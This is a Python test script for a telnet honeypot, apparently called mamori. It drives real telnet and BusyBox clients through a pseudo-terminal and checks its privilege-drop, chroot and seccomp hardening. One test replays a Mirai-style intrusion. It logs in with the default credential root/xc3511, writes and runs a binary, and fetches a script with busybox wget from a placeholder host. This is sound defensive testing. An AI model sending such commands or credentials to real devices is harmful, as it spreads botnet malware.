#!/usr/bin/env python3
"""mamori lure with real clients, under a pseudo-terminal like a person at a
keyboard: the `telnet` client and BusyBox's `telnet` log in, run commands
and see their output; the client's window size (NAWS) is logged.  Then the
hardening, when run as root: --user drops privileges after binding port 23,
--chroot confines the process, and the seccomp filter is installed."""
import fcntl
import os
import pty
import select
import shutil
import struct
import sys
import termios
import time

sys.path.insert(0, os.path.dirname(__file__))
from lurelib import Honeypot, Telnet, mirai_login, scratch

errors = []


def check(cond, what):
    if not cond:
        errors.append(what)
        print("FAIL:", what, file=sys.stderr)


class Pty:
    def __init__(self, argv, cols=100, rows=30):
        self.pid, self.fd = pty.fork()
        if self.pid == 0:
            os.execvp(argv[0], argv)
        fcntl.ioctl(self.fd, termios.TIOCSWINSZ, struct.pack("HHHH", rows, cols, 0, 0))
        self.buf = b""

    def expect(self, needle, deadline=10):
        end = time.monotonic() + deadline
        while needle not in self.buf:
            left = end - time.monotonic()
            if left <= 0:
                raise TimeoutError(f"waiting for {needle!r}; have {self.buf[-300:]!r}")
            r, _, _ = select.select([self.fd], [], [], left)
            if r:
                try:
                    d = os.read(self.fd, 4096)
                except OSError:
                    d = b""
                if not d:
                    raise EOFError(f"eof waiting for {needle!r}; have {self.buf[-300:]!r}")
                self.buf += d
        i = self.buf.index(needle) + len(needle)
        out, self.buf = self.buf[:i], self.buf[i:]
        return out

    def send(self, s):
        os.write(self.fd, s.encode())

    def wait(self, deadline=10):
        end = time.monotonic() + deadline
        while time.monotonic() < end:
            pid, status = os.waitpid(self.pid, os.WNOHANG)
            if pid:
                return status
            r, _, _ = select.select([self.fd], [], [], 0.2)
            if r:
                try:
                    os.read(self.fd, 4096)
                except OSError:
                    pass
        os.kill(self.pid, 9)
        os.waitpid(self.pid, 0)
        return None


def session(argv, port, name):
    p = Pty(argv + ["127.0.0.1", str(port)])
    p.expect(b"LocalHost login: ")
    p.send("root\r")
    p.expect(b"Password: ")
    p.send("xc3511\r")
    p.expect(b"# ")
    p.send(f"echo hello-{name} | cat; uname -m\r")
    out = p.expect(b"armv7l")
    check(f"hello-{name}".encode() in out, f"{name}: echo output missing: {out!r}")
    p.expect(b"# ")
    p.send("exit\r")
    p.wait()


def test_clients():
    hp = Honeypot()
    clients = []
    if shutil.which("telnet"):
        clients.append((["telnet"], "telnet"))
    if shutil.which("busybox"):
        clients.append((["busybox", "telnet"], "busybox"))
    check(clients, "neither telnet nor busybox is installed")
    for argv, name in clients:
        session(argv, hp.port, name)
    check(hp.stop() == 0, "clients: exit status")
    evs = hp.read_events()
    for _, name in clients:
        cmds = [e for e in evs if e["eventid"] == "cowrie.command.input"
                and e["input"] == f"echo hello-{name} | cat; uname -m"]
        check(len(cmds) == 1, f"{name}: command not logged exactly once")
    sizes = [(e["width"], e["height"]) for e in evs if e["eventid"] == "cowrie.client.size"]
    check((100, 30) in sizes, f"window size not logged: {sizes}")
    closed = [e for e in evs if e["eventid"] == "cowrie.session.closed"]
    check(len(closed) == len(clients), f"closed events {len(closed)}")


def proc_status(pid):
    with open(f"/proc/{pid}/status") as f:
        return dict(line.split(":", 1) for line in f if ":" in line)


def test_hardening():
    if os.geteuid() != 0:
        print("lure_clients: not root; privilege drop and chroot not tested")
        return
    d = scratch()
    os.chmod(d, 0o755)
    jail = os.path.join(d, "jail")
    os.mkdir(jail)
    # LeakSanitizer reads /proc at exit, which the chroot hides; the other
    # tests run the same code unconfined with leak checks on
    asan = os.environ.get("ASAN_OPTIONS", "")
    hp = Honeypot("--user", "nobody", "--chroot", jail, listen="127.0.0.1:23", tmp=d,
                  env={"ASAN_OPTIONS": (asan + ":" if asan else "") + "detect_leaks=0"})
    st = proc_status(hp.proc.pid)
    check(st["Uid"].split()[0] == "65534" and st["Gid"].split()[0] == "65534",
          f"privileges not dropped: Uid {st['Uid'].strip()} Gid {st['Gid'].strip()}")
    check(st["Seccomp"].strip() == "2", f"seccomp filter not installed: {st['Seccomp'].strip()}")
    check(st["NoNewPrivs"].strip() == "1", "no_new_privs not set")
    check(os.readlink(f"/proc/{hp.proc.pid}/root") == jail, "not chrooted")
    t = Telnet(23)
    check(mirai_login(t, "root", "xc3511"), "hardened: login failed")
    payload = bytes(range(64))
    t.send("cd /tmp; echo -ne '" + "".join("\\x%02x" % c for c in payload) + "' > p; chmod +x p; ./p; "
           "/bin/busybox wget http://198.18.0.3/a.sh; /bin/busybox ECCHI")
    t.read_until(b"ECCHI: applet not found")
    t.close()
    check(hp.stop() == 0, f"hardened: exit status; {hp.summary}")
    evs = hp.read_events()
    ids = [e["eventid"] for e in evs]
    check(ids.count("cowrie.session.file_download") == 2, f"hardened: downloads {ids}")
    check(hp.query("SELECT count(*) FROM lure_sessions WHERE login_ok = 1")[0][0] == 1,
          "hardened: database row missing")
    import hashlib
    digest = hashlib.sha256(payload).hexdigest()
    check(os.path.exists(os.path.join(hp.files, digest)), "hardened: file not stored")


if __name__ == "__main__":
    test_clients()
    test_hardening()
    if errors:
        sys.exit(f"{len(errors)} failures")
    print("lure_clients: all checks passed")
